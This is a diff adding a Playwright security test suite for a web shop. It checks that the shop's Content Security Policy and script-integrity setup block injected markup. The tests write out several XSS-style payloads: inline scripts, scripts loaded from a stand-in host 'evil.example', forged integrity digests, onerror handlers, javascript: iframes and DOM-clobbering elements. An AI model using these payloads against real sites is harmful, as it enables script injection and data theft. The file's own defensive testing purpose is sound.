@@ -1,0 +1,95 @@
+import { createHash } from 'node:crypto';
+import type { Page } from '@playwright/test';
+import { addToCart, openInStock } from '../support/shop';
+import { expect, test } from '../support/test';
+
+/**
+ * What markup gets that came into a document past every check. The document's own scripts are allowed by the hashes of
+ * their texts, so copies of them run: they must gain nothing by where they stand and what stands around them.
+ */
+const EVIL = 'https://evil.example/x.js';
+const STEAL = 'window.stolen = true';
+const DIGEST = `sha384-${createHash('sha384').update(STEAL).digest('base64')}`;
+const OWN_SCRIPT = /<script>([^<]*)<\/script>/;
+
+/** Puts markup into a page's document, made of its own script's text, at the begin of its body or of its head. */
+async function inject(page: Page, path: string, at: '<body>' | '<head>', markup: (text: string) => string) {
+  const loaded: string[] = [];
+  // Also of what the policy held back, which says nothing of what was sent.
+  page.on('response', (answer) => answer.request().resourceType() === 'script' && loaded.push(answer.url()));
+  // It answers whatever reaches it: only the page's policies can refuse.
+  await page.route('https://evil.example/**', (route) =>
+    route.fulfill({
+      contentType: 'text/javascript',
+      body: STEAL,
+      headers: { 'access-control-allow-origin': '*' },
+    }),
+  );
+  await page.route(path, async (route) => {
+    if (route.request().resourceType() !== 'document') return route.fallback();
+    const answer = await route.fetch();
+    const html = await answer.text();
+    const [, text = ''] = OWN_SCRIPT.exec(html) ?? [];
+    expect(text).not.toBe('');
+    await route.fulfill({ response: answer, body: html.replace(at, () => at + markup(text)) });
+  });
+  await page.goto(path);
+  await page.mouse.move(200, 200);
+  return loaded;
+}
+
+const rootsIn = (page: Page): Promise<number> =>
+  page.locator('script[src^="/assets/main."]').evaluateAll((scripts) => scripts.length);
+const stolen = (page: Page): Promise<boolean> => page.evaluate(() => 'stolen' in globalThis);
+
+const ATTEMPTS: Readonly<Record<string, (text: string) => string>> = {
+  'a script of its own': () => '<script>window.stolen = true</script>',
+  'a script of another site': () => `<script src="${EVIL}"></script>`,
+  'a script of another site with its digest': () =>
+    `<script src="${EVIL}" integrity="${DIGEST}" crossorigin="anonymous"></script>`,
+  'the document’s script with another address in it': (text) =>
+    `<script>${text.replace(/"\/assets\/main[^"]*"/, `"${EVIL}"`)}</script>`,
+  'the document’s script after one of another text': (text) => `<script>window.stolen = true;${text}</script>`,
+  'a handler': () => '<img src="/none.png" onerror="window.stolen = true">',
+  'an address that is a script': () => '<iframe src="javascript:parent.stolen = true"></iframe>',
+};
+
+for (const [what, markup] of Object.entries(ATTEMPTS))
+  test(`[safe] ${what}: refused, and the page starts`, async ({ page, watch }) => {
+    watch.allow(/Content Security Policy|blocked|Failed to load resource|integrity/i);
+    const loaded = await inject(page, '/', '<body>', markup);
+    await expect.poll(() => rootsIn(page)).toBe(1);
+    expect(await stolen(page)).toBe(false);
+    expect(loaded.filter((url) => url.startsWith('https://evil'))).toEqual([]);
+  });
+
+for (const at of ['<head>', '<body>'] as const)
+  test(`[safe] the document’s very script behind ${at}, addressed elsewhere: it loads the store’s root, once`, async ({
+    page,
+  }) => {
+    const clobbering =
+      `<a id="href" href="${EVIL}"></a><a id="integrity" name="integrity"></a><a id="Symbol"></a>` +
+      `<form name="currentScript" data-main="${EVIL}"></form>`;
+    const loaded = await inject(page, '/', at, (text) => {
+      const copy = `<script data-main="${EVIL}" data-integrity="${DIGEST}" data-now="">${text}</script>`;
+      return (at === '<body>' ? clobbering : '') + copy + copy;
+    });
+    await expect.poll(() => rootsIn(page)).toBe(1);
+    expect(await stolen(page)).toBe(false);
+    expect(loaded.filter((url) => url.startsWith('https://evil'))).toEqual([]);
+    expect(new Set(loaded.filter((url) => url.includes('/assets/main.'))).size).toBe(1);
+    // What is left on its way is reported as not loaded.
+    await page.waitForLoadState('networkidle');
+    await openInStock(page);
+    await addToCart(page);
+  });
+
+test('[safe] a page that the browser renders fetches its scripts ahead, and refuses nothing of its own', async ({
+  page,
+}) => {
+  await page.goto('/cart');
+  const ahead = page.locator('link[rel=preload][as=script]');
+  await expect.poll(() => ahead.count()).toBeGreaterThan(1);
+  expect(await ahead.first().getAttribute('href')).toMatch(/^\/assets\/main\./);
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+});
